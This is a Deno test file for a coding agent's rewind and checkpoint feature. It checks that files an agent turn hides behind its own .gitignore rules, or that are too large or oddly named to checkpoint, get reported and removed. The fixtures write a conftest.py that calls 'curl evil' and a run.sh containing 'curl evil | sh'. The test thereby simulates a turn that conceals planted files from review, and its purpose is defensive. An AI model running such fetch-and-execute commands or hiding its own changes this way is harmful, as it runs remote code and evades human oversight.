/**
 * A turn that hides what it plants: it writes `.gitignore` rules for files, then makes them, so
 * no checkpoint holds them. A rewind to before that turn brings the old `.gitignore` back and
 * must show those files and take them away too (the checkpoint's own rules ignore none of
 * them), while what was ignored then stays as it is. Real files, real git, the real store.
 */
import { deepEqual, equal } from "node:assert/strict";
import { join } from "node:path";
import { applyRewind, planRewind } from "../../src/harness/rewind/rewind.ts";
import { describePlan } from "../../src/cli/sessions_rewind.ts";
import { ToolRegistry } from "../../src/tools/registry.ts";
import { hostTool, strictCheckpoints, temp } from "../support/host_tool.ts";
import { Session } from "../../src/session/session.ts";
import { TurnCheckpoints } from "../../src/harness/rewind/turn_checkpoints.ts";

/** The files under `folder`, relative, sorted. */
function files(folder: string, prefix = ""): string[] {
  return [...Deno.readDirSync(join(folder, prefix))].flatMap((entry) => {
    const path = prefix === "" ? entry.name : `${prefix}/${entry.name}`;
    return entry.isDirectory ? files(folder, path) : [path];
  }).sort();
}

Deno.test("planRewind() shows the files a turn hid behind .gitignore rules of its own, and applyRewind() removes them", async () => {
  const home = await temp("tern-home-");
  const ws = await temp("tern-ws-");
  try {
    Deno.writeTextFileSync(join(ws, ".gitignore"), "node_modules/\n.env\nlogs/*.log\n");
    Deno.writeTextFileSync(join(ws, ".env"), "TOKEN=person\n");
    Deno.mkdirSync(join(ws, "node_modules", "pkg"), { recursive: true });
    Deno.writeTextFileSync(join(ws, "node_modules", "pkg", "index.js"), "dep\n");
    Deno.mkdirSync(join(ws, "logs"));
    Deno.writeTextFileSync(join(ws, "logs", "old.log"), "log\n");
    Deno.writeTextFileSync(join(ws, "main.py"), "code\n");
    const session = Session.create(home, { cwd: ws, ternVersion: "test" });
    const user = session.append({ type: "message", message: { role: "user", content: "go" } });
    const checkpoints = strictCheckpoints(session, ws);
    const turn = hostTool(() => {
      Deno.writeTextFileSync(
        join(ws, ".gitignore"),
        "node_modules/\n.env\nlogs/\nconftest.py\ntools/\n",
      );
      Deno.writeTextFileSync(join(ws, "conftest.py"), "import os; os.system('curl evil')\n");
      Deno.mkdirSync(join(ws, "tools"));
      Deno.writeTextFileSync(join(ws, "tools", "run.sh"), "curl evil | sh\n");
      Deno.writeTextFileSync(join(ws, "logs", "hook.py"), "evil\n");
      Deno.writeTextFileSync(join(ws, "node_modules", "pkg", "new.js"), "dep\n");
    });
    const tools = checkpoints.wrap(new ToolRegistry([turn]), user.id);
    await tools.get("bash")!.run({}, {} as never);
    await checkpoints.endTurn();

    const options = { workspace: ws, scope: "files" as const, rules: [] };
    const plan = await planRewind(session, user.id, options);
    // Shown before anything moves: files no checkpoint saw come, so conflicts.
    deepEqual(plan.changes.map((c) => `${c.path} ${c.status}`), [
      ".gitignore modified",
      "conftest.py deleted",
      "logs/hook.py deleted",
      "tools/run.sh deleted",
    ]);
    deepEqual(plan.conflicts, ["conftest.py", "logs/hook.py", "tools/run.sh"]);
    equal(describePlan(plan).includes("curl evil | sh"), true);
    equal(plan.patch.includes("TOKEN"), false, plan.patch);
    await applyRewind(session, plan, { ...options, overwrite: true });
    equal(Deno.readTextFileSync(join(ws, ".gitignore")), "node_modules/\n.env\nlogs/*.log\n");
    // What the checkpoint's own rules ignored stays, new or not.
    deepEqual(files(ws), [
      ".env",
      ".gitignore",
      "logs/old.log",
      "main.py",
      "node_modules/pkg/index.js",
      "node_modules/pkg/new.js",
    ]);
    // Undo puts them back: the rewind recorded them.
    const undo = await planRewind(session, "undo", options);
    await applyRewind(session, undo, { ...options, overwrite: true });
    equal(Deno.readTextFileSync(join(ws, "tools", "run.sh")), "curl evil | sh\n");
    equal(Deno.readTextFileSync(join(ws, "conftest.py")), "import os; os.system('curl evil')\n");
    session.close();
  } finally {
    await Deno.remove(home, { recursive: true });
    await Deno.remove(ws, { recursive: true });
  }
});

Deno.test("planRewind() names the files a turn made that no checkpoint can hold: too large, or named as git cannot store", async () => {
  const home = await temp("tern-home-");
  const ws = await temp("tern-ws-");
  try {
    Deno.writeTextFileSync(join(ws, "main.py"), "code\n");
    const session = Session.create(home, { cwd: ws, ternVersion: "test" });
    const user = session.append({ type: "message", message: { role: "user", content: "go" } });
    const warnings: string[] = [];
    const checkpoints = new TurnCheckpoints({
      sessionPath: session.path,
      sessionId: session.id,
      workspace: ws,
      warn: (text) => warnings.push(text),
      rules: () => [],
      maxFileBytes: 1000,
    });
    const turn = hostTool(() => {
      Deno.writeTextFileSync(join(ws, "main.py"), "edited\n");
      Deno.writeTextFileSync(join(ws, "conftest.py"), `import os\n${"#".repeat(2000)}\n`);
      Deno.mkdirSync(join(ws, "GIT~1"));
      Deno.writeTextFileSync(join(ws, "GIT~1", "run.py"), "evil\n");
    });
    const tools = checkpoints.wrap(new ToolRegistry([turn]), user.id);
    await tools.get("bash")!.run({}, {} as never);
    await checkpoints.endTurn();

    const options = { workspace: ws, scope: "files" as const, rules: [], maxFileBytes: 1000 };
    const plan = await planRewind(session, user.id, options);
    deepEqual(plan.changes.map((c) => `${c.path} ${c.status}`), ["main.py modified"]);
    deepEqual(plan.unheld, ["conftest.py", "GIT~1/run.py"]);
    const text = describePlan(plan);
    equal(text.includes(`left: "conftest.py" is over the size limit`), true, text);
    equal(text.includes(`left: "GIT~1/run.py" is named as git cannot store`), true, text);
    const result = await applyRewind(session, plan, options);
    deepEqual(result.kept, ["conftest.py", "GIT~1/run.py"]);
    equal(Deno.readTextFileSync(join(ws, "main.py")), "code\n");
    session.close();
  } finally {
    await Deno.remove(home, { recursive: true });
    await Deno.remove(ws, { recursive: true });
  }
});

Deno.test("planRewind() shows a file a turn hid behind a rule in a repository nested in the workspace", async () => {
  const home = await temp("tern-home-");
  const ws = await temp("tern-ws-");
  try {
    Deno.mkdirSync(join(ws, "sub"));
    new Deno.Command("git", { args: ["init", "-q"], cwd: join(ws, "sub") }).outputSync();
    Deno.writeTextFileSync(join(ws, "sub", "a.py"), "a\n");
    const session = Session.create(home, { cwd: ws, ternVersion: "test" });
    const user = session.append({ type: "message", message: { role: "user", content: "go" } });
    const checkpoints = strictCheckpoints(session, ws);
    const turn = hostTool(() => {
      Deno.writeTextFileSync(join(ws, "sub", ".gitignore"), "conftest.py\n");
      Deno.writeTextFileSync(join(ws, "sub", "conftest.py"), "evil\n");
    });
    const tools = checkpoints.wrap(new ToolRegistry([turn]), user.id);
    await tools.get("bash")!.run({}, {} as never);
    await checkpoints.endTurn();

    const options = { workspace: ws, scope: "files" as const, rules: [] };
    const plan = await planRewind(session, user.id, options);
    deepEqual(plan.changes.map((c) => `${c.path} ${c.status}`), [
      "sub/.gitignore deleted",
      "sub/conftest.py deleted",
    ]);
    deepEqual(plan.conflicts, ["sub/conftest.py"]);
    await applyRewind(session, plan, { ...options, overwrite: true });
    deepEqual(files(join(ws, "sub")).filter((path) => !path.startsWith(".git/")), ["a.py"]);
    session.close();
  } finally {
    await Deno.remove(home, { recursive: true });
    await Deno.remove(ws, { recursive: true });
  }
});
